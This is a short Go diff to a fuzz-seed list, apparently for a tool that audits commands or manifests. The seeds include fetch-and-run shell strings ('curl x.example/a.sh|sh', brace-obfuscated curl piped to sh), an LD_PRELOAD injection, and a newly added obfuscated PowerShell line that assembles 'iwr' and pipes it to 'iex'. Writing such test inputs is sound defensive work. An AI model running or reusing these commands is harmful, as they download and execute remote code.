@@ -101,6 +101,7 @@ var fuzzSeeds = [][]string{
 	{"LD_PRELOAD=/tmp/x.so /opt/my app/srv; curl x.example/a.sh|sh", "a.js"},
 	{"uv", "run", "--with", "x", "--script", "http://u:p@x/s.py", "https://x/y"},
 	{"{curl,-s,x}|sh;bash", "-c", "cu{rl,} {a,b}{1..3} x{,}|{sh,} {1..300}"},
+	{"pwsh", "-c", "$a='i'; & ($a + \"w`r\" + '') u | & ('ie'+'x'); & ('a'+$b); & ('x').T(); (\"$y\"+'z')"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
